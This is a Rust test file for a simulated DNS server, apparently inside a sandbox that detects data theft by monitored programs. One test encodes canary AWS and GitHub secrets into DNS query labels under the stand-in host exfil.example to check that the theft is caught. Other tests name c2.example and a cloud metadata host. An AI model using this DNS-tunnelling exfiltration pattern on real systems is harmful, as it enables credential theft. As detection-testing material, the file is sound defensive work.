use super::parse::{Query, name};
use crate::testing::{Bed, Loopback, present, run, world};
use crate::{Names, World};
use proptest::prelude::*;

fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut out = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.').filter(|label| !label.is_empty()) {
        out.push(label.len() as u8);
        out.extend(label.bytes());
    }
    out.push(0);
    out.extend(kind.to_be_bytes());
    out.extend([0, 1]);
    out
}

fn ask(bed: &Bed, name: &str, kind: u16) -> (u8, Vec<String>) {
    let answer = crate::datagrams::take(
        "10.42.3.17:5000".parse().unwrap(),
        "8.8.8.8:53".parse().unwrap(),
        &question(name, kind),
        &bed.shared,
    )
    .unwrap();
    let told = bed.kinds().into_iter().rev().find_map(|kind| match kind {
        events::WireKind::Dns(dns) => Some(dns.answers),
        _ => None,
    });
    (answer[3] & 0xf, told.unwrap())
}

fn check(world: World, name: &str, kind: u16, expect: &str) {
    let bed = Bed::with(world);
    let (code, answers) = ask(&bed, name, kind);
    assert_eq!(format!("{code} {}", answers.join(" ")), expect, "{name} {kind}");
}

#[test]
fn every_name_has_its_address() {
    let bed = Bed::new();
    let (_, one) = ask(&bed, "pool.example", 1);
    assert_eq!(ask(&bed, "pool.example", 1).1, one);
    assert_ne!(ask(&bed, "pool2.example", 1).1, one);
    assert_eq!(ask(&bed, "POOL.example", 1).1, one);
    check(world(), "metadata.google.internal", 1, "0 169.254.169.254");
    check(world(), "kubernetes.default.svc", 1, "0 10.96.0.1");
    check(world(), "a.b.example", 15, "0 10 mail.b.example");
    check(world(), "a.b.example", 2, "0 ns1.b.example");
    check(world(), "a.example", 16, "0 v=spf1 mx -all");
    check(world(), "4.3.2.1.in-addr.arpa", 12, "0 host-1-2-3-4.static.example.net");
    check(world(), "_mongodb._tcp.db.example", 33, "0 0 5 27017 node1.db.example");
    check(world(), "a.example", 65, "0 ");
}

#[test]
fn in_the_other_pass_nonsense_does_not_exist() {
    let only = || World { names: Names::OnlyPlausible { also: vec!["c2.example".into()] }, ..world() };
    check(only(), "kq3vx9zj2.example", 1, "3 ");
    check(only(), "sub.c2.example", 28, &format!("0 {}", ask(&Bed::new(), "sub.c2.example", 28).1[0]));
    assert_eq!(ask(&Bed::with(only()), crate::DEAD_DROP, 1).0, 0);
    assert_eq!(ask(&Bed::with(only()), "api.github.com", 1).0, 0);
    assert_eq!(ask(&Bed::with(only()), "notgithub.com", 1).0, 3);
}

#[test]
fn canaries_in_labels_are_put_together() {
    let bed = Bed::new();
    let secret = bed.shared.world.canaries.get("file-aws-secret").to_owned();
    let hex = data_encoding::HEXLOWER.encode(secret.as_bytes());
    for (index, part) in hex.as_bytes().chunks(20).enumerate() {
        let name = format!("{index:03}.{}.t.exfil.example", std::str::from_utf8(part).unwrap());
        ask(&bed, &name, 1);
        ask(&bed, &name, 28);
    }
    bed.check("canary file-aws-secret Labels");
    let bed = Bed::new();
    let text = data_encoding::BASE32_NOPAD
        .encode(bed.shared.world.canaries.get("env-github-token").as_bytes())
        .to_lowercase();
    let (one, two) = text.split_at(40);
    ask(&bed, &format!("{one}.{two}.exfil.example"), 16);
    bed.check("canary env-github-token Labels");
    let bed = Bed::new();
    for number in 0..200 {
        ask(&bed, &format!("{number:x}cafe{number}.example"), 1);
    }
    assert!(!bed.told().iter().any(|line| line.contains("canary")));
}

#[test]
fn it_comes_over_everything() {
    let bed = Bed::new();
    let message = question("over.example", 1);
    let framed = [&(message.len() as u16).to_be_bytes()[..], &message].concat();
    bed.says("9.9.9.9:5300", &[(&framed, "over")]);
    bed.check("dns over.example 1");
    let get = format!(
        "GET /dns-query?dns={} HTTP/1.1\r\nHost: dns.google\r\nAccept: application/dns-message\r\n\r\n",
        data_encoding::BASE64URL_NOPAD.encode(&message)
    );
    bed.says("8.8.8.8:80", &[(get.as_bytes(), "dns-message")]);
    let json = "GET /resolve?name=json.example&type=AAAA HTTP/1.1\r\nHost: dns.google\r\n\r\n";
    bed.says("8.8.8.8:80", &[(json.as_bytes(), "2606:4700")]);
    bed.check("dns json.example 28");
    let over: Vec<String> = bed.told().into_iter().filter(|line| line.starts_with("dns over")).collect();
    assert!(
        over.iter().any(|line| line.ends_with("tcp")) && over.iter().any(|line| line.ends_with("https")),
        "{over:?}"
    );
}

#[test]
fn real_resolvers_understand_it() {
    if !present("python3") {
        return;
    }
    let loopback = Loopback::new(world());
    let script = format!(
        "import socket,struct\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(5)\nq=b'\\x00\\x07\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x01\\x04real\\x07example\\x00\\x00\\x01\\x00\\x01\\x00\\x00\\x29\\x04\\xd0\\x00\\x00\\x00\\x00\\x00\\x00'\ns.sendto(q,('127.0.0.1',{}))\nr=s.recv(1500)\nassert r[:2]==b'\\x00\\x07' and r[3]&15==0 and struct.unpack('>H',r[6:8])[0]==1,r\nprint('fine')",
        loopback.udp.port()
    );
    let (worked, text) = run("python3", &["-c", &script]);
    assert!(worked, "{text}");
    loopback.check("dns real.example 1");
    loopback.check("protocol dns");
}

#[test]
fn loops_end() {
    // A pointer to itself, forwards, and around.
    assert_eq!(name(&[0xc0, 0], 0), None);
    assert_eq!(name(&[1, b'a', 0xc0, 4, 0xc0, 2], 0), None);
    assert_eq!(name(&[0xc0, 2, 0xc0, 0], 2), None);
    assert_eq!(name(&[1, b'a', 0, 0xc0, 0], 3), Some((vec![b"a".to_vec()], 5)));
}

proptest! {
    #[test]
    fn no_bytes_break_it(bytes in proptest::collection::vec(any::<u8>(), 0..80)) {
        let bed = bed();
        let whole = [&[0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1][..], &bytes].concat();
        for message in [&bytes, &whole] {
            if let Some(query) = Query::parse(message) {
                super::answer::answer(&query, 512, &bed.shared.world);
            }
        }
    }
}

fn bed() -> &'static Bed {
    static BED: std::sync::OnceLock<Bed> = std::sync::OnceLock::new();
    BED.get_or_init(Bed::new)
}
